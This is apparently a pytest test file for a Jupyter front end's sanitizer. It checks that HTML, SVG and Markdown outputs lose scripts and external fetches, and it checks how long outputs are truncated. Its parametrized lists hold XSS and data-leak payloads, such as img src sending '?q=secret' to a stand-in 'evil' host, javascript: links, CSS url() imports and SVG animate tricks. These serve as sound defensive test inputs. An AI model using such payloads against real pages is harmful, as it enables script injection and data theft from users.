"""Nothing in what a page is told to trust acts, fetches, or carries anything away."""

from __future__ import annotations

import re
from typing import Any

import pytest

from rlm_jupyter.frontends.display import sanitize as safe
from rlm_jupyter.frontends.display.sanitize import Cleaner, clean
from rlm_jupyter.frontends.display.sanitize_svg import clean_svg
from rlm_jupyter.frontends.live.cell_list import CellList
from rlm_jupyter.frontends.live.subcall_cells import SubcallCells
from tests.support.protocol import settled, stdout

SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def shown(**data: Any) -> dict[str, Any]:
    output = {"output_type": "display_data", "data": {k.replace("_", "/"): v for k, v in data.items()}, "metadata": {}}
    cleaned = safe.clean([output])
    return cleaned[0]["data"] if cleaned else {}


@pytest.mark.parametrize(
    "html",
    [
        "<script>x()</script>",
        "<img src=x onerror=x()>",
        "<img src='http://evil/?q=secret'>",
        "<img src='//evil/?q=secret'>",
        "<a href='javascript:x()'>a</a>",
        "<iframe src='http://evil'></iframe>",
        "<iframe srcdoc='<script>x()</script>'></iframe>",
        "<form action='http://evil'><input name=a></form>",
        "<style>@import url(http://evil);</style>",
        "<div style='background: url(http://evil/?q)'>a</div>",
        "<div style='background-color: u\\72l(http://evil)'>a</div>",
        "<div style='position: fixed; top: 0'>a</div>",
        "<object data='http://evil'></object>",
        "<embed src='http://evil'>",
        "<video src='http://evil' poster='http://evil'></video>",
        "<link rel=stylesheet href='http://evil'>",
        "<meta http-equiv=refresh content='0;url=http://evil'>",
        "<base href='http://evil'>",
        "<svg><script>x()</script></svg>",
        "<math><mtext></table><img src=x onerror=x()>",
    ],
)
def test_html_is_harmless(html: str) -> None:
    cleaned = shown(text_html=html)["text/html"].lower()
    for bad in ("script", "onerror", "evil", "x()", "fixed", "iframe", "<form", "url("):
        assert bad not in cleaned


def test_tables_and_pictures_of_their_own_stay() -> None:
    html = '<table border="1" class="dataframe"><tr><th style="text-align:right">a</th></tr></table>'
    assert "text-align:right" in shown(text_html=html)["text/html"]
    assert 'class="dataframe"' in shown(text_html=html)["text/html"]
    assert "data:image/png;base64,AA" in shown(text_html='<img src="data:image/png;base64,AA">')["text/html"]


def test_markdown_is_drawn_here_and_harmless() -> None:
    data = shown(text_markdown="**b** <img src=x onerror=x()> ![a](http://evil) [l](javascript:x())")
    assert set(data) == {"text/html"}
    assert "<strong>b</strong>" in data["text/html"]
    assert "<img" not in data["text/html"]
    assert 'href="javascript' not in data["text/html"]


@pytest.mark.parametrize(
    "inner",
    [
        "<script>x()</script>",
        '<g onclick="x()"/>',
        '<a href="javascript:x()"><text>a</text></a>',
        '<image href="http://evil"/>',
        '<use xlink:href="http://evil#a"/>',
        '<rect style="fill: url(http://evil#a)"/>',
        '<rect fill="url(http://evil#a)"/>',
        "<style>@import 'http://evil';</style>",
        "<foreignObject><div xmlns='http://www.w3.org/1999/xhtml' onclick='x()'>evil</div></foreignObject>",
        '<animate attributeName="href" values="javascript:x()"/>',
    ],
)
def test_drawings_are_harmless(inner: str) -> None:
    drawn = clean_svg(f"<svg {SVG}><circle r='3'/>{inner}</svg>")
    assert "circle" in drawn
    for bad in ("script", "evil", "x()", "onclick"):
        assert bad not in drawn


def test_a_plot_stays_what_it_was() -> None:
    pyplot = pytest.importorskip("matplotlib.figure")
    import io

    figure = pyplot.Figure()
    figure.subplots().plot([1, 2, 3], label="line")
    buffer = io.StringIO()
    figure.savefig(buffer, format="svg")
    drawn = clean_svg(buffer.getvalue())
    assert drawn.count("<path") == buffer.getvalue().count("<path")
    assert drawn.count("<use") == buffer.getvalue().count("<use")
    assert 'xlink:href="#' in drawn
    assert "viewBox" in drawn


@pytest.mark.parametrize("text", ["<svg", "<!DOCTYPE a [<!ENTITY b 'c'>]><svg>&b;</svg>", "<html/>", ""])
def test_what_is_no_drawing_is_left_out(text: str) -> None:
    assert clean_svg(text) == ""


def test_other_kinds_are_left_out() -> None:
    widget = {"application/vnd.jupyter.widget-view+json": {"model_id": "a"}, "text/plain": "IntSlider()"}
    assert safe.clean([{"output_type": "display_data", "data": widget, "metadata": {"a": 1}}]) == [
        {"output_type": "display_data", "data": {"text/plain": "IntSlider()"}, "metadata": {}}
    ]
    script = {"output_type": "display_data", "data": {"application/javascript": "x()"}, "metadata": {}}
    assert safe.clean([script]) == []


@pytest.mark.parametrize(
    ("said", "written"),
    [
        ("# A *heading* #", "**A *heading***"),
        ("```python\n# no heading\n```", "```python\n# no heading\n```"),
        ("Title\n=====\ntext", "Title\n\\=====\ntext"),
        ("a < b and a <= c", "a < b and a <= c"),
    ],
)
def test_prose_takes_no_section_and_keeps_its_words(said: str, written: str) -> None:
    assert safe.prose(said) == written


def test_nothing_in_a_sub_call_is_markup() -> None:
    evil = "</pre></details>\n\n# h\n<script>x()</script> ![a](http://evil) **b** $x$ `c`"
    cells = CellList("run", {})
    cells.add(asking := cells.new("code", 1))
    calls = SubcallCells(cells)
    calls.settle(settled(0, evil), asking)
    calls.refresh()
    source = next(cell.source for cell in cells if cell.role == "subcalls")
    assert "\n" not in source
    assert "<script" not in source
    assert source.count("</details>") == 2
    assert not set("*`![$") & set(source.replace("<details>", ""))


def test_what_did_not_change_is_not_cleaned_anew() -> None:
    cleaner = Cleaner()
    rich = {"output_type": "display_data", "data": {"text/html": "<b>x</b>"}, "metadata": {}}
    first = cleaner([stdout("a"), rich], running=True)
    # a kernel's outputs are told as new objects that hold the same ones
    again = cleaner([stdout("ab"), dict(rich)], running=True)
    assert again[1] is first[1]
    assert again == clean([stdout("ab"), rich], running=True)
    updated = {**rich, "data": {"text/html": "<b>y</b>"}}
    assert cleaner([stdout("ab"), updated])[1]["data"] == {"text/html": "<b>y</b>"}
    assert cleaner([]) == []


def test_a_page_need_not_draw_more_than_it_can() -> None:
    made = [{"output_type": "display_data", "data": {"text/plain": f"{n}"}, "metadata": {}} for n in range(1000)]
    cleaned = clean(made)
    assert len(cleaned) == 201
    assert cleaned[-1]["text"] == "[… 800 more: in the run's notebook]\n"
    assert clean(made, running=True)[:200] == cleaned[:200]
    picture = {"output_type": "display_data", "data": {"image/png": "A" * 6_000_000}, "metadata": {}}
    assert len(clean([picture] * 4)) == 3
    large = clean([{**picture, "data": {"text/html": "<p>" * 400_000, "image/png": "A"}}])
    assert large[0]["data"] == {
        "text/plain": "[text/html, 1,200,000 characters: in the run's notebook]",
        "image/png": "A",
    }


def test_of_a_long_text_a_page_has_the_beginning_and_the_end() -> None:
    lines = [f"line {number} {'x' * 80}\n" for number in range(1000)]
    text = "".join(lines)

    def check(shown: str) -> None:
        assert len(shown) < 9_000
        found = re.fullmatch(
            r"(.*\n)\[… ([\d,]+) of ([\d,]+) characters left out; the whole output is in the run's notebook …\]\n(.*)",
            shown,
            re.DOTALL,
        )
        assert found is not None
        head, tail = found[1].removesuffix("\n"), found[4]
        assert text.startswith(f"{head}\n")
        assert text.endswith(f"\n{tail}")
        assert len(tail) > 3_500
        left_out, whole = (int(number.replace(",", "")) for number in (found[2], found[3]))
        assert (whole, len(head) + left_out + len(tail)) == (len(text), len(text))

    [printed, result, error] = clean(
        [
            stdout(text),
            {"output_type": "execute_result", "data": {"text/plain": text}, "metadata": {}, "execution_count": 1},
            {"output_type": "error", "ename": "ValueError", "evalue": text, "traceback": ["above", text]},
        ]
    )
    check(printed["text"])
    check(result["data"]["text/plain"])
    check(error["evalue"])
    assert error["traceback"][0].startswith("above\nline 0 ")
    assert sum(map(len, error["traceback"])) < 9_000
    # while it grows, what was sent stays as it is
    assert clean([stdout(text)], running=True) == [stdout(text)]
    longer = clean([stdout(text * 2)], running=True)[0]["text"]
    assert longer == f"{(text * 2)[:100_000]}\n[… more]\n"
    assert clean([stdout(text[:8_000])]) == [stdout(text[:8_000])]


def test_streams_that_follow_each_other_are_one() -> None:
    assert clean([stdout("a"), stdout("b")]) == [stdout("ab")]
